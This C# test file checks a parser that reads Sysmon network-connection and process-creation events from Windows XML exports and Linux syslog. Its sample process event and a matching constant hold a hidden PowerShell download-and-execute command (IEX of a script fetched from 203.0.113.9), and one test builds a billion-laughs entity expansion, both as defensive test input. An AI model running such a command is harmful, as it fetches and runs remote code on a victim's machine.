using System.Diagnostics;
using System.Text;
using Cadence.Sources;
using Cadence.Sources.Internals;
using Cadence.Sources.Sysmon;
using Cadence.Telemetry;

namespace Cadence.Tests.Sources;

public sealed class SysmonTests : IDisposable
{
    private readonly TempFiles _files = new();

    // wevtutil qe Microsoft-Windows-Sysmon/Operational /f:xml writes one event a line, attributes
    // in single quotes (Sysmon 15, Event ID 3 version 5): powershell.exe calling out on 443.
    private const string NetworkConnect =
        """<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385f-c22a-43e0-bf4c-06f5698ffbd9}'/><EventID>3</EventID><Version>5</Version><Level>4</Level><Task>3</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='2024-03-26T09:39:51.8842345Z'/><EventRecordID>184502</EventRecordID><Correlation/><Execution ProcessID='3088' ThreadID='4012'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>WS01.corp.example.com</Computer><Security UserID='S-1-5-18'/></System><EventData><Data Name='RuleName'>technique_id=T1059.001,technique_name=PowerShell</Data><Data Name='UtcTime'>2024-03-26 09:39:50.768</Data><Data Name='ProcessGuid'>{8f3c1c2a-9e1d-6602-3c01-000000000c00}</Data><Data Name='ProcessId'>6532</Data><Data Name='Image'>C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe</Data><Data Name='User'>CORP\jdoe</Data><Data Name='Protocol'>tcp</Data><Data Name='Initiated'>true</Data><Data Name='SourceIsIpv6'>false</Data><Data Name='SourceIp'>10.20.30.41</Data><Data Name='SourceHostname'>WS01.corp.example.com</Data><Data Name='SourcePort'>52144</Data><Data Name='SourcePortName'>-</Data><Data Name='DestinationIsIpv6'>false</Data><Data Name='DestinationIp'>203.0.113.9</Data><Data Name='DestinationHostname'>-</Data><Data Name='DestinationPort'>443</Data><Data Name='DestinationPortName'>https</Data></EventData></Event>""";

    // The same process's creation (Event ID 1 version 5), as wevtutil escapes quotes in text.
    private const string ProcessCreate =
        """<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385f-c22a-43e0-bf4c-06f5698ffbd9}'/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='2024-03-26T09:39:48.1162093Z'/><EventRecordID>184497</EventRecordID><Correlation/><Execution ProcessID='3088' ThreadID='4012'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>WS01.corp.example.com</Computer><Security UserID='S-1-5-18'/></System><EventData><Data Name='RuleName'>-</Data><Data Name='UtcTime'>2024-03-26 09:39:48.114</Data><Data Name='ProcessGuid'>{8f3c1c2a-9e1d-6602-3c01-000000000c00}</Data><Data Name='ProcessId'>6532</Data><Data Name='Image'>C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe</Data><Data Name='FileVersion'>10.0.19041.3996 (WinBuild.160101.0800)</Data><Data Name='Description'>Windows PowerShell</Data><Data Name='Product'>Microsoft® Windows® Operating System</Data><Data Name='Company'>Microsoft Corporation</Data><Data Name='OriginalFileName'>PowerShell.EXE</Data><Data Name='CommandLine'>powershell.exe -nop -w hidden -c &quot;IEX ((New-Object Net.WebClient).DownloadString('http://203.0.113.9/a'))&quot;</Data><Data Name='CurrentDirectory'>C:\Users\jdoe\</Data><Data Name='User'>CORP\jdoe</Data><Data Name='LogonGuid'>{8f3c1c2a-9c11-6602-5ba3-0e0000000000}</Data><Data Name='LogonId'>0xea35b</Data><Data Name='TerminalSessionId'>1</Data><Data Name='IntegrityLevel'>Medium</Data><Data Name='Hashes'>SHA256=9785001B0DCF755EDDB8AF294A373C0B87B2498660F724E76C4D53F9C217C7A3</Data><Data Name='ParentProcessGuid'>{8f3c1c2a-9c14-6602-7a00-000000000c00}</Data><Data Name='ParentProcessId'>5216</Data><Data Name='ParentImage'>C:\Windows\explorer.exe</Data><Data Name='ParentCommandLine'>C:\Windows\Explorer.EXE</Data><Data Name='ParentUser'>CORP\jdoe</Data></EventData></Event>""";

    private const string CommandLine = "powershell.exe -nop -w hidden -c \"IEX ((New-Object Net.WebClient).DownloadString('http://203.0.113.9/a'))\"";

    // Sysmon for Linux through rsyslog: curl polling a local listener.
    private const string LinuxEvent =
        """<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>3</EventID><Version>5</Version><Level>4</Level><Task>3</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2024-03-26T09:39:50.770114000Z"/><EventRecordID>51877</EventRecordID><Correlation/><Execution ProcessID="2563" ThreadID="2563"/><Channel>Linux-Sysmon/Operational</Channel><Computer>host1</Computer><Security UserId="0"/></System><EventData><Data Name="RuleName">-</Data><Data Name="UtcTime">2024-03-26 09:39:50.768</Data><Data Name="ProcessGuid">{4a3bd4c5-96e6-6602-c5ea-5ec2e1550000}</Data><Data Name="ProcessId">41230</Data><Data Name="Image">/usr/bin/curl</Data><Data Name="User">root</Data><Data Name="Protocol">tcp</Data><Data Name="Initiated">true</Data><Data Name="SourceIsIpv6">false</Data><Data Name="SourceIp">127.0.0.1</Data><Data Name="SourceHostname">-</Data><Data Name="SourcePort">48822</Data><Data Name="SourcePortName">-</Data><Data Name="DestinationIsIpv6">false</Data><Data Name="DestinationIp">127.0.0.1</Data><Data Name="DestinationHostname">-</Data><Data Name="DestinationPort">80</Data><Data Name="DestinationPortName">-</Data></EventData></Event>""";

    private const string LinuxLine = "Mar 26 09:39:50 host1 sysmon: " + LinuxEvent;

    private static readonly long SampleTicks = new DateTime(2024, 3, 26, 9, 39, 50, 768, DateTimeKind.Utc).Ticks;

    private static IReadOnlyList<ITelemetryFormat> Formats(SysmonXmlFormat? xml = null, SysmonLinuxSyslogFormat? syslog = null) =>
        [.. TelemetryReader.DefaultFormats.Select(f => f switch
        {
            SysmonXmlFormat when xml is not null => xml,
            SysmonLinuxSyslogFormat when syslog is not null => syslog,
            _ => f,
        })];

    private static (List<NetworkEvent> Events, IngestLog Log) Read(params string[] paths) => Read(Formats(), null, paths);

    private static (List<NetworkEvent> Events, IngestLog Log) Read(IReadOnlyList<ITelemetryFormat> formats, Action<ReadContext>? setup, params string[] paths)
    {
        var log = new IngestLog();
        using var pool = new StringPool();
        var context = new ReadContext(log, pool);
        setup?.Invoke(context);
        return (new TelemetryReader(context, formats).Read(paths).ToList(), log);
    }

    /// <summary>The sample with another process (a different ProcessGuid and id).</summary>
    private static string OtherProcess(string sample, string guidTail, int processId) =>
        sample.Replace("3c01-000000000c00}", guidTail + "}", StringComparison.Ordinal)
            .Replace(">6532<", $">{processId}<", StringComparison.Ordinal);

    private static string At(string sample, string utcTime) =>
        sample.Replace("2024-03-26 09:39:50.768", utcTime, StringComparison.Ordinal);

    [Fact]
    public void ReadsTheVerbatimWindowsNetworkConnect()
    {
        var path = _files.Write("sysmon.xml", NetworkConnect + "\r\n");
        var (events, log) = Read(path);

        var e = Assert.Single(events);
        Assert.Equal(SampleTicks, e.TimestampTicks);
        Assert.Equal("WS01.corp.example.com", e.DeviceName);
        Assert.Equal("ConnectionSuccess", e.ActionType);
        Assert.Equal("203.0.113.9", e.RemoteIP);
        Assert.Equal(443, e.RemotePort);
        // RFC 5737 documentation space: the seed rule (RemoteIPType == "Public") would not count it.
        Assert.Equal("Documentation", e.RemoteIPType);
        Assert.Equal("10.20.30.41", e.LocalIP);
        Assert.Equal(52144, e.LocalPort);
        Assert.Equal("tcp", e.Protocol);
        Assert.Equal("powershell.exe", e.InitiatingProcessFileName);
        Assert.Equal(6532, e.ProcessId);
        Assert.Null(e.ProcessCommandLine);
        Assert.Null(e.DestinationHost);
        Assert.Null(e.SentBytes);
        Assert.Null(e.ReceivedBytes);
        Assert.Null(e.RemoteUrl);
        Assert.Equal(new Provenance(new InputFile(path), 1), e.Provenance);

        var input = Assert.Single(log.Inputs);
        Assert.Equal("Sysmon event XML (wevtutil, Get-WinEvent ToXml)", input.Format);
        Assert.Equal(1, input.EventsRead);
        Assert.Equal(0, input.RowsSkipped + input.RowsRejected);
        Assert.Equal(1, input.Notes[SysmonLinks.NoProcessNote]);
        Assert.True(input.Provides.HasFlag(TelemetryFields.ProcessCommandLine));
        Assert.False(input.Provides.HasFlag(TelemetryFields.SentBytes));
    }

    [Fact]
    public void ProcessCreationGivesItsCommandLineToTheProcessesConnections()
    {
        var chrome = OtherProcess(NetworkConnect, "3c01-000000000d00", 7100);
        var (events, log) = Read(_files.Write("sysmon.xml", ProcessCreate + "\n" + NetworkConnect + "\n" + chrome + "\n"));

        Assert.Equal(2, events.Count);
        Assert.Equal(CommandLine, events[0].ProcessCommandLine);
        Assert.Equal(2, events[0].Provenance.Line);
        Assert.Null(events[1].ProcessCommandLine);
        var input = log.Inputs[0];
        Assert.Equal(2, input.EventsRead);
        Assert.Equal(1, input.SkippedByReason[SysmonEventMapper.ProcessCreation]);
        Assert.Equal(1, input.Notes[SysmonLinks.LinkedNote]);
        Assert.Equal(1, input.Notes[SysmonLinks.NoProcessNote]);
    }

    [Fact]
    public void NewestFirstExportsLinkTooAndKeepTheirLines()
    {
        // Get-WinEvent lists newest first: the connections come before their process creation.
        var later = At(NetworkConnect, "2024-03-26 09:40:05.771");
        var path = _files.Write("get-winevent.xml", later + "\n" + NetworkConnect + "\n" + ProcessCreate + "\n");
        var (events, log) = Read(path);

        Assert.Equal(2, events.Count);
        Assert.All(events, e => Assert.Equal(CommandLine, e.ProcessCommandLine));
        Assert.Equal([1L, 2L], events.Select(e => e.Provenance.Line));
        Assert.Equal(2, log.Inputs[0].Notes[SysmonLinks.LinkedNote]);
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public void LinksAcrossTwoFilesInEitherOrder(bool connectionsFirst)
    {
        var connections = _files.Write("eid3.xml", NetworkConnect + "\n" + At(NetworkConnect, "2024-03-26 09:40:05.771") + "\n");
        var processes = _files.Write("eid1.xml", ProcessCreate + "\n");
        var (events, log) = Read(connectionsFirst ? new[] { connections, processes } : new[] { processes, connections });

        Assert.Equal(2, events.Count);
        Assert.All(events, e => Assert.Equal(CommandLine, e.ProcessCommandLine));
        Assert.All(events, e => Assert.Equal(connections, e.Provenance.Input.DisplayName));
        Assert.Equal(2, log.EventsRead);
        Assert.Equal(1, log.RowsSkipped);
    }

    [Fact]
    public void ExportsOfProcessCreationsOnlyAreReadFirst()
    {
        var format = new SysmonXmlFormat();
        Assert.Equal(-1, format.ReadOrder(Encoding.UTF8.GetBytes(ProcessCreate + "\n")));
        Assert.Equal(0, format.ReadOrder(Encoding.UTF8.GetBytes(ProcessCreate + "\n" + NetworkConnect + "\n")));
        Assert.Equal(0, format.ReadOrder(Encoding.UTF8.GetBytes(NetworkConnect + "\n")));
    }

    [Fact]
    public void WithoutAProcessGuidTheLinkFallsBackToHostAndProcessId()
    {
        static string NoGuid(string sample) =>
            sample.Replace("<Data Name='ProcessGuid'>{8f3c1c2a-9e1d-6602-3c01-000000000c00}</Data>", string.Empty, StringComparison.Ordinal);
        var otherHost = NoGuid(NetworkConnect).Replace("<Computer>WS01.corp.example.com</Computer>", "<Computer>WS02.corp.example.com</Computer>", StringComparison.Ordinal);
        var (events, _) = Read(_files.Write("a.xml", NoGuid(ProcessCreate) + "\n" + NoGuid(NetworkConnect) + "\n" + otherHost + "\n"));

        Assert.Equal(CommandLine, events[0].ProcessCommandLine);
        Assert.Equal("WS02.corp.example.com", events[1].DeviceName);
        Assert.Null(events[1].ProcessCommandLine);
    }

    [Fact]
    public void AReusedProcessIdDoesNotLinkAnotherProcessGuid()
    {
        // Same host, same id, another ProcessGuid: an earlier process that had the id.
        var earlier = ProcessCreate.Replace("3c01-000000000c00}</Data><Data Name='ProcessId'>", "3c01-000000000b00}</Data><Data Name='ProcessId'>", StringComparison.Ordinal);
        var (events, _) = Read(_files.Write("a.xml", earlier + "\n" + NetworkConnect + "\n"));
        Assert.Null(Assert.Single(events).ProcessCommandLine);
    }

    [Fact]
    public void AnAcceptedConnectionHasTheSourceAsItsRemoteEnd()
    {
        var inbound = NetworkConnect
            .Replace("<Data Name='Initiated'>true</Data>", "<Data Name='Initiated'>false</Data>", StringComparison.Ordinal)
            .Replace("<Data Name='SourceIp'>10.20.30.41</Data><Data Name='SourceHostname'>WS01.corp.example.com</Data><Data Name='SourcePort'>52144</Data>",
                "<Data Name='SourceIp'>198.51.100.23</Data><Data Name='SourceHostname'>scanner.example.net</Data><Data Name='SourcePort'>51515</Data>", StringComparison.Ordinal)
            .Replace("<Data Name='DestinationIp'>203.0.113.9</Data><Data Name='DestinationHostname'>-</Data><Data Name='DestinationPort'>443</Data>",
                "<Data Name='DestinationIp'>10.20.30.41</Data><Data Name='DestinationHostname'>WS01.corp.example.com</Data><Data Name='DestinationPort'>5985</Data>", StringComparison.Ordinal);
        var (events, _) = Read(_files.Write("in.xml", inbound + "\n"));

        var e = Assert.Single(events);
        Assert.Equal("198.51.100.23", e.RemoteIP);
        Assert.Equal(51515, e.RemotePort);
        Assert.Equal("Documentation", e.RemoteIPType);
        Assert.Equal("scanner.example.net", e.DestinationHost);
        Assert.Equal("10.20.30.41", e.LocalIP);
        Assert.Equal(5985, e.LocalPort);
        Assert.Equal("ConnectionSuccess", e.ActionType);
    }

    [Fact]
    public void Ipv6AddressesAreKeptAsWrittenAndClassified()
    {
        var v6 = NetworkConnect
            .Replace("<Data Name='SourceIsIpv6'>false</Data><Data Name='SourceIp'>10.20.30.41</Data>",
                "<Data Name='SourceIsIpv6'>true</Data><Data Name='SourceIp'>fe80:0:0:0:1c2d:3e4f:5a6b:7c8d</Data>", StringComparison.Ordinal)
            .Replace("<Data Name='DestinationIsIpv6'>false</Data><Data Name='DestinationIp'>203.0.113.9</Data><Data Name='DestinationHostname'>-</Data>",
                "<Data Name='DestinationIsIpv6'>true</Data><Data Name='DestinationIp'>2606:4700:4700:0:0:0:0:1111</Data><Data Name='DestinationHostname'>one.one.one.one</Data>", StringComparison.Ordinal);
        var (events, _) = Read(_files.Write("v6.xml", v6 + "\n"));

        var e = Assert.Single(events);
        Assert.Equal("2606:4700:4700:0:0:0:0:1111", e.RemoteIP);
        Assert.Equal("Public", e.RemoteIPType);
        Assert.Equal("fe80:0:0:0:1c2d:3e4f:5a6b:7c8d", e.LocalIP);
        Assert.Equal("one.one.one.one", e.DestinationHost);
    }

    [Fact]
    public void ReadsTheVerbatimLinuxLineAndTheJournaldShapes()
    {
        var lines = string.Join('\n',
            "Mar 26 09:39:49 host1 systemd[1]: Started Session 12 of User root.",                 // 1 another program
            LinuxLine,                                                                             // 2
            "Mar 26 09:39:50 host1 sysmon[812]: " + LinuxEvent,                                    // 3 journalctl (short)
            "2024-03-26T09:39:50.771203+00:00 host1 sysmon: " + LinuxEvent,                        // 4 rsyslog RFC 5424
            LinuxEvent,                                                                            // 5 journalctl -o cat
            "Mar 26 09:39:51 host1 sysmon: Sysmon v1.3.3 configuration reloaded",                  // 6 Sysmon, no event
            "") + "\n";
        var path = _files.Write("syslog", lines);
        var (events, log) = Read(path);

        Assert.Equal(4, events.Count);
        var e = events[0];
        Assert.Equal(SampleTicks, e.TimestampTicks);
        Assert.Equal("host1", e.DeviceName);
        Assert.Equal("ConnectionSuccess", e.ActionType);
        Assert.Equal("127.0.0.1", e.RemoteIP);
        Assert.Equal(80, e.RemotePort);
        Assert.Equal("Loopback", e.RemoteIPType);
        Assert.Equal("127.0.0.1", e.LocalIP);
        Assert.Equal(48822, e.LocalPort);
        Assert.Equal("tcp", e.Protocol);
        Assert.Equal("curl", e.InitiatingProcessFileName);
        Assert.Equal(41230, e.ProcessId);
        Assert.Null(e.ProcessCommandLine);
        Assert.Null(e.DestinationHost);
        Assert.Equal(new Provenance(new InputFile(path), 2), e.Provenance);
        Assert.Equal([2L, 3L, 4L, 5L], events.Select(x => x.Provenance.Line));
        Assert.All(events, x => Assert.Equal(e with { Provenance = x.Provenance }, x));

        var input = log.Inputs[0];
        Assert.Equal("Sysmon for Linux (syslog, journald)", input.Format);
        Assert.Equal(2, input.SkippedByReason[SysmonLinuxSyslogFormat.OtherProgram]);
        Assert.Equal(1, input.SkippedByReason[RowReasons.BlankLine]);
        Assert.Equal(0, input.RowsRejected);
    }

    [Fact]
    public void BothFormatsMapTheSameXmlToTheSameEvent()
    {
        // Identical XML gives an identical event whichever format carried it; only where it came from differs.
        using var pool = new StringPool();
        var context = new ReadContext(new IngestLog(), pool);
        foreach (var xml in new[] { NetworkConnect, LinuxEvent })
        {
            var asXml = new SysmonXmlFormat().Read(new MemoryStream(Encoding.UTF8.GetBytes(xml)), new InputFile("a.xml"), context).ToList();
            var asSyslog = new SysmonLinuxSyslogFormat().Read(new MemoryStream(Encoding.UTF8.GetBytes("Mar 26 09:39:50 host1 sysmon: " + xml)), new InputFile("syslog"), context).ToList();
            Assert.Empty(asXml.Concat(asSyslog));
            var flushed = new SysmonXmlFormat().Finish(context).ToList();
            Assert.Equal(2, flushed.Count);
            Assert.Equal(flushed[0] with { Provenance = flushed[1].Provenance }, flushed[1]);
            Assert.NotEqual(flushed[0].Provenance, flushed[1].Provenance);
        }
    }

    [Fact]
    public void AProcessCreationOnLinuxLinksToo()
    {
        var process = LinuxLine
            .Replace("<EventID>3</EventID>", "<EventID>1</EventID>", StringComparison.Ordinal)
            .Replace("<Data Name=\"User\">root</Data>", "<Data Name=\"CommandLine\">curl -s http://127.0.0.1/updates/check -A \"Mozilla/4.0 (compatible; MSIE 7.0)\"</Data><Data Name=\"User\">root</Data>", StringComparison.Ordinal);
        var (events, _) = Read(_files.Write("syslog", process + "\n" + LinuxLine + "\n"));
        Assert.Equal("curl -s http://127.0.0.1/updates/check -A \"Mozilla/4.0 (compatible; MSIE 7.0)\"", Assert.Single(events).ProcessCommandLine);
    }

    [Fact]
    public void MalformedXmlIsRejectedWithItsLineAndTheRestOfTheInputIsNotRead()
    {
        var broken = NetworkConnect.Replace("</Data><Data Name='ProcessId'>", "</Dat><Data Name='ProcessId'>", StringComparison.Ordinal);
        var path = _files.Write("broken.xml", NetworkConnect + "\n" + broken + "\n" + NetworkConnect + "\n");
        var (events, log) = Read(path);

        Assert.Single(events);
        var problem = Assert.Single(log.Examples);
        Assert.Equal(2, problem.Line);
        Assert.Equal(SysmonXmlFormat.Malformed, problem.Reason);
        Assert.Equal(RowDisposition.Rejected, problem.Disposition);
        Assert.Contains($"{path}:2:", Assert.Single(log.Warnings), StringComparison.Ordinal);
    }

    [Fact]
    public void ATruncatedLastEventIsRejectedWithItsLine()
    {
        var path = _files.Write("cut.xml", ProcessCreate + "\n" + NetworkConnect + "\n" + NetworkConnect[..900]);
        var (events, log) = Read(path);

        Assert.Equal(CommandLine, Assert.Single(events).ProcessCommandLine);
        Assert.Equal(3, Assert.Single(log.Examples, p => p.Disposition == RowDisposition.Rejected).Line);
        Assert.Equal(1, log.RowsRejected);
    }

    [Fact]
    public void MalformedAndTruncatedSyslogLinesAreRejectedAndReadingGoesOn()
    {
        var broken = LinuxLine.Replace("<Data Name=\"Image\">", "<Data Name=\"Image\"", StringComparison.Ordinal);
        var lines = LinuxLine + "\n" + broken + "\n" + LinuxLine + "\n" + LinuxLine[..400];
        var (events, log) = Read(_files.Write("syslog.1", lines));

        Assert.Equal([1L, 3L], events.Select(e => e.Provenance.Line));
        Assert.Equal(2, log.Inputs[0].RejectedByReason[SysmonXmlFormat.Malformed]);
        Assert.Equal([2L, 4L], log.Examples.Where(p => p.Disposition == RowDisposition.Rejected).Select(p => p.Line));
        Assert.Empty(log.Warnings);
    }

    [Fact]
    public void ABillionLaughsDtdIsRefusedWithoutExpandingIt()
    {
        var dtd = new StringBuilder("<?xml version=\"1.0\"?>\n<!DOCTYPE Events [\n<!ENTITY lol0 \"lol\">\n");
        for (var i = 1; i < 10; i++)
            dtd.Append($"<!ENTITY lol{i} \"{string.Concat(Enumerable.Repeat($"&lol{i - 1};", 10))}\">\n");
        dtd.Append("]>\n<Events>\n")
            .Append(NetworkConnect.Replace("<Data Name='User'>CORP\\jdoe</Data>", "<Data Name='User'>&lol9;</Data>", StringComparison.Ordinal))
            .Append("\n</Events>\n");
        var syslog = LinuxLine.Replace("<Data Name=\"User\">root</Data>", "<Data Name=\"User\">&lol9;</Data>", StringComparison.Ordinal);

        var clock = Stopwatch.StartNew();
        var (events, log) = Read(_files.Write("lol.xml", dtd.ToString()), _files.Write("lol.log", syslog + "\n" + LinuxLine + "\n"));
        clock.Stop();

        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(10), $"took {clock.Elapsed}");
        Assert.Equal([1L, 1L], log.Inputs.Select(i => i.RejectedByReason[SysmonXmlFormat.Malformed]));
        Assert.Equal(2, log.Inputs[0].Examples.Single().Line);
        Assert.Equal("Sysmon event XML (wevtutil, Get-WinEvent ToXml)", log.Inputs[0].Format);
        // The syslog line is refused on its own (an undeclared entity); the next line still reads.
        Assert.Equal(2, Assert.Single(events).Provenance.Line);
    }

    [Fact]
    public void OtherEventIdsAndProvidersAreSkippedAndCountedByKind()
    {
        static string Id(int id) => NetworkConnect.Replace("<EventID>3</EventID>", $"<EventID>{id}</EventID>", StringComparison.Ordinal);
        var security = NetworkConnect.Replace("Microsoft-Windows-Sysmon' Guid", "Microsoft-Windows-Security-Auditing' Guid", StringComparison.Ordinal)
            .Replace("<EventID>3</EventID>", "<EventID>4624</EventID>", StringComparison.Ordinal);
        var path = _files.Write("mixed.xml", string.Join("\n", Id(22), Id(22), Id(5), Id(9999), security, Id(3), ""));
        var (events, log) = Read(path);

        Assert.Single(events);
        var skipped = log.Inputs[0].SkippedByReason;
        Assert.Equal(2, skipped["Sysmon Event ID 22 (DnsQuery): not a network connection"]);
        Assert.Equal(1, skipped["Sysmon Event ID 5 (ProcessTerminate): not a network connection"]);
        Assert.Equal(1, skipped[SysmonEventMapper.OtherKind]);
        Assert.Equal(1, skipped[SysmonEventMapper.OtherProvider]);
        Assert.Equal(5, log.RowsSkipped);
        Assert.Equal(0, log.RowsRejected);
    }

    [Fact]
    public void ReadsGzipInputs()
    {
        var xml = _files.Write("sysmon.xml.gz", ProcessCreate + "\n" + NetworkConnect + "\n", gzip: true);
        var syslog = _files.Write("syslog.2.gz", LinuxLine + "\n", gzip: true);
        var (events, log) = Read(xml, syslog);

        Assert.Equal(2, events.Count);
        Assert.Equal(CommandLine, events[0].ProcessCommandLine);
        Assert.Equal("curl", events[1].InitiatingProcessFileName);
        Assert.Equal(["Sysmon event XML (wevtutil, Get-WinEvent ToXml)", "Sysmon for Linux (syslog, journald)"], log.Inputs.Select(i => i.Format));
    }

    [Fact]
    public void ReadsAPrettyPrintedUtf16EventsDocumentWithTheLineOfEachEvent()
    {
        // Windows PowerShell 5.1 redirects write UTF-16 with a byte order mark; Event Viewer's
        // Save as XML wraps the events in <Events> and indents them.
        static string Pretty(string oneLine) => oneLine
            .Replace("><System>", ">\n  <System>\n    ", StringComparison.Ordinal)
            .Replace("</System><EventData>", "\n  </System>\n  <EventData>\n    ", StringComparison.Ordinal)
            .Replace("</Data><Data", "</Data>\n    <Data", StringComparison.Ordinal)
            .Replace("</EventData></Event>", "\n  </EventData>\n</Event>", StringComparison.Ordinal);
        var document = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n<Events>\n" + Pretty(ProcessCreate) + "\n" + Pretty(NetworkConnect) + "\n</Events>\n";
        var path = Path.Combine(_files.Root, "saved.xml");
        File.WriteAllBytes(path, [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(document)]);
        var (events, log) = Read(path);

        var e = Assert.Single(events);
        Assert.Equal(CommandLine, e.ProcessCommandLine);
        Assert.Equal("203.0.113.9", e.RemoteIP);
        var processLines = Pretty(ProcessCreate).Count(c => c == '\n') + 1;
        Assert.Equal(3 + processLines, e.Provenance.Line);
        Assert.Equal(1, log.RowsSkipped);
    }

    [Fact]
    public void ConnectionsWaitingTooLongGoOutWithoutACommandLine()
    {
        static string Creation(string guidTail, int id) => OtherProcess(ProcessCreate, guidTail, id);
        var lines = string.Join("\n",
            OtherProcess(NetworkConnect, "1111-000000000c00", 1111),
            OtherProcess(NetworkConnect, "2222-000000000c00", 2222),
            OtherProcess(NetworkConnect, "3333-000000000c00", 3333),
            Creation("1111-000000000c00", 1111),
            Creation("2222-000000000c00", 2222),
            "");
        var (events, log) = Read(Formats(), c => c.StateOf<SysmonLinks>().MaxPending = 2, _files.Write("a.xml", lines));

        Assert.Equal([1L, 2L, 3L], events.Select(e => e.Provenance.Line));
        Assert.Null(events[0].ProcessCommandLine);
        Assert.Equal(CommandLine, events[1].ProcessCommandLine);
        Assert.Null(events[2].ProcessCommandLine);
        var notes = log.Inputs[0].Notes;
        Assert.Equal(1, notes[SysmonLinks.EvictedNote]);
        Assert.Equal(1, notes[SysmonLinks.LinkedNote]);
        Assert.Equal(1, notes[SysmonLinks.NoProcessNote]);
    }

    [Fact]
    public void AnOversizedEventOrLineIsRejectedNotBuffered()
    {
        var huge = ProcessCreate.Replace("-nop -w hidden", "-nop -w hidden " + new string('A', 1_000_000), StringComparison.Ordinal);
        var formats = Formats(new SysmonXmlFormat(maxEventBytes: 256 * 1024), new SysmonLinuxSyslogFormat(maxLineChars: 16 * 1024));
        var longLine = LinuxLine.Replace("<Data Name=\"User\">root</Data>", $"<Data Name=\"User\">{new string('r', 20_000)}</Data>", StringComparison.Ordinal);
        var (events, log) = Read(formats, null,
            _files.Write("big.xml", NetworkConnect + "\n" + huge + "\n" + NetworkConnect + "\n"),
            _files.Write("big.log", longLine + "\n" + LinuxLine + "\n"));

        Assert.Equal(2, events.Count);
        Assert.Equal(2, log.Inputs[0].Examples.Single().Line);
        Assert.Equal(1, log.Inputs[0].RejectedByReason[SysmonXmlFormat.TooLarge]);
        Assert.Equal(1, log.Inputs[1].RejectedByReason[SysmonLinuxSyslogFormat.LineTooLong]);
        Assert.Equal(2, events[1].Provenance.Line);
    }

    [Fact]
    public void OtherSourcesAreNotTakenForSysmonNorSysmonForThem()
    {
        const string defender =
            "Timestamp,DeviceId,DeviceName,ActionType,RemoteIP,RemotePort,RemoteUrl,LocalIP,LocalPort,Protocol,LocalIPType,RemoteIPType,InitiatingProcessFileName\n" +
            "2023-12-21T17:33:44.663Z,4b3e1a2d9c8f7e6b5a4d3c2b1a0f9e8d7c6b5a4d,laptop-7.contoso.com,ConnectionSuccess,::ffff:172.64.149.247,443,https://sync.1rx.io,192.168.1.23,50412,Tcp,Private,Public,msedge.exe\n";
        const string zeek =
            "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tconn\n" +
            "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tconn_state\n" +
            "1672843056.913119\tCXHB1X22027MRWU6D\t10.136.0.18\t55548\t10.136.0.16\t3128\ttcp\tSF\n";
        const string plainSyslog =
            "Mar 26 09:39:49 host1 systemd[1]: Started Session 12 of User root.\n" +
            "Mar 26 09:39:50 host1 sysmon: Sysmon v1.3.3 started\n" +
            "Mar 26 09:39:50 host1 kernel: [ 2211.413302] audit: type=1400 audit(1711445990.412:77): apparmor=\"STATUS\"\n" +
            "Mar 26 09:39:51 host1 myapp: <Event><System><Provider Name=\"MyApp\"/></System></Event>\n";

        // Sentinel's Syslog table exported as CSV: Sysmon lines inside a cell, quotes doubled.
        var sentinelSyslog =
            "TenantId,SourceSystem,TimeGenerated [UTC],Computer,Facility,HostName,SeverityLevel,SyslogMessage,ProcessID,ProcessName\n" +
            "5f1e0c9a-1b2c-4d3e-8f90-a1b2c3d4e5f6,Linux,\"3/26/2024, 9:39:50.768 AM\",host1,user,host1,info,\"" + LinuxEvent.Replace("\"", "\"\"", StringComparison.Ordinal) + "\",812,sysmon\n";

        var sysmonFormats = new ITelemetryFormat[] { new SysmonXmlFormat(), new SysmonLinuxSyslogFormat() };
        foreach (var other in new[] { defender, zeek, plainSyslog, sentinelSyslog })
            Assert.All(sysmonFormats, f => Assert.False(f.Recognizes(Encoding.UTF8.GetBytes(other)), $"{f.Name} claimed: {other[..30]}"));
        foreach (var sample in new[] { NetworkConnect, ProcessCreate, LinuxLine, LinuxEvent })
            Assert.All(TelemetryReader.DefaultFormats.Where(f => f is not SysmonXmlFormat and not SysmonLinuxSyslogFormat),
                f => Assert.False(f.Recognizes(Encoding.UTF8.GetBytes(sample)), $"{f.Name} claimed Sysmon"));
        Assert.True(sysmonFormats[0].Recognizes(Encoding.UTF8.GetBytes(NetworkConnect)));
        Assert.False(sysmonFormats[1].Recognizes(Encoding.UTF8.GetBytes(NetworkConnect)));
        Assert.True(sysmonFormats[1].Recognizes(Encoding.UTF8.GetBytes(LinuxLine)));
        Assert.False(sysmonFormats[0].Recognizes(Encoding.UTF8.GetBytes(LinuxLine)));

        var (_, log) = Read(_files.Write("export.csv", defender), _files.Write("conn.log", zeek));
        Assert.Equal(["Defender DeviceNetworkEvents CSV", "Zeek conn log (TSV)"], log.Inputs.Select(i => i.Format));
        Assert.Throws<UnreadableInputException>(() => Read(_files.Write("messages", plainSyslog)));
    }

    public void Dispose() => _files.Dispose();
}
